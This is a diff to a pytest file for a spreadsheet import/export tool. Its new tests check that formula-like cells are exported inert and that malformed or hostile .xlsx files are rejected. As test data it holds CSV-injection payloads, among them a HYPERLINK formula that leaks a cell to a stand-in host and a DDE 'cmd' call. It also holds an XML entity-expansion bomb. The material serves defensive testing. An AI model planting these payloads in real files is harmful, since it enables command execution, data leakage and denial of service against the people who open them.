@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import csv
+import zipfile
 
 import openpyxl
 import pytest
@@ -269,3 +270,84 @@ def test_rows_that_break_the_edition_as_a_whole_are_undone(edition, tmp_path, ru
                                 f"1 problem(s) with the sheet's rows in the edition; {edition / 'partners.yaml'} "
                                 "was not changed"]
     assert (edition / "partners.yaml").read_bytes() == before
+
+
+# What Excel would run as a formula when the keeper opens the sheet (OWASP's CSV injection list), and a
+# value that really starts with "'", which must come back as written too.
+FORMULAS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1 555 0100", "-2+3", "@SUM(A1:A2)",
+            "\t=1+1", "\r=1+1", "'quoted already", "''two quotes", "=cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_a_cell_excel_would_run_is_written_inert_and_comes_back_as_written(edition, tmp_path, run, suffix):
+    items = "".join(f"  - id: odd-{n}\n    name: {yaml_quoted(value)}\n    kind: external\n    category: x\n"
+                    f"    what_they_do: {yaml_quoted(value)}\n" for n, value in enumerate(FORMULAS))
+    write(edition / "partners.yaml", "partners:\n" + items)
+    before = {p.id: (p.name, p.what_they_do) for p in load_edition(edition).partners}
+    written = [name for name, _ in before.values()]          # as the data holds them (a leading tab is trimmed)
+    assert written[-3:] == FORMULAS[-3:] and all(name.startswith(sheets.FORMULA_STARTS) for name in written)
+    sheet = tmp_path / f"out{suffix}"
+    code, out, err = run("export", "partners", sheet, "--data", edition)
+    assert code == 0, err
+    if suffix == ".csv":
+        with sheet.open(encoding="utf-8-sig", newline="") as file:
+            rows = list(csv.reader(file))
+        names = [row[rows[0].index("name")] for row in rows[1:]]
+        assert all(name.startswith("'") for name in names)         # Excel shows them as text, runs none
+        assert names == ["'" + value for value in FORMULAS]     # the file's text, a leading tab or CR included
+    else:
+        book = openpyxl.load_workbook(sheet)
+        cells = [row[1] for row in book.active.iter_rows(min_row=2)]
+        assert [c.value for c in cells] == FORMULAS and {c.data_type for c in cells} == {"s"}   # strings, typed
+        assert all(c.quotePrefix for c in cells if c.value.startswith(sheets.FORMULA_STARTS))
+        with zipfile.ZipFile(sheet) as archive:
+            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")                         # no formula
+    for path in (edition / "partners.yaml",):
+        path.write_text("partners: []\n", encoding="utf-8")
+    code, out, err = run("import", "partners", sheet, "--data", edition)
+    assert code == 0, err
+    assert {p.id: (p.name, p.what_they_do) for p in load_edition(edition).partners} == before
+    # the text as written (import trims a cell's spaces, as it always has: the tab and CR before '=1+1')
+    assert [item["name"] for item in sheets.read_items(edition / "partners.yaml", "partners")[0]] == \
+        [value.strip() for value in FORMULAS]
+
+
+def yaml_quoted(value: str) -> str:
+    return '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'
+
+
+def zip_workbook(path, members: dict[str, bytes]) -> None:
+    """A workbook made by hand: a real one's parts, with some replaced."""
+    book = openpyxl.Workbook()
+    book.active.append(["id", "name"])
+    book.active.append(["one", "One"])
+    book.save(path)
+    with zipfile.ZipFile(path) as archive:
+        parts = {name: archive.read(name) for name in archive.namelist()}
+    parts.update(members)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in parts.items():
+            archive.writestr(name, data)
+
+
+BOMB = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;'
+        b'&lol;&lol;&lol;&lol;&lol;">]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>')
+
+
+@pytest.mark.parametrize("make, words", [
+    (lambda p: p.write_bytes(b"id,name\none,One\n"), "this is not an Excel workbook (an .xlsx file is a zip archive)"),
+    (lambda p: p.write_bytes(b"PK\x03\x04" + b"\0" * 100), "this is not an Excel workbook"),
+    (lambda p: zip_workbook(p, {"xl/worksheets/sheet1.xml": BOMB}), "declares XML entities (a DOCTYPE)"),
+    (lambda p: zip_workbook(p, {"xl/sharedStrings.xml": BOMB.replace(b"worksheet", b"sst")}), "declares XML entities"),
+    (lambda p: zip_workbook(p, {"xl/worksheets/sheet1.xml": b'<?xml version="1.0"?><worksheet xmlns="http://schemas.'
+                                b'openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:B5000000"/>'
+                                b"<sheetData/></worksheet>"}), "declares 5,000,000 rows"),
+    (lambda p: zip_workbook(p, {"xl/workbook.xml": b"<workbook"}), "this is not an Excel workbook that can be read"),
+])
+def test_a_broken_or_hostile_workbook_is_a_located_error(edition, tmp_path, run, make, words):
+    sheet = tmp_path / "partners.xlsx"
+    make(sheet)
+    code, out, err = run("import", "partners", sheet, "--data", edition)
+    assert code == 1 and err.startswith(f"{sheet}:1:A: ") and words in err, err
+    assert "Traceback" not in err and "lol" not in err
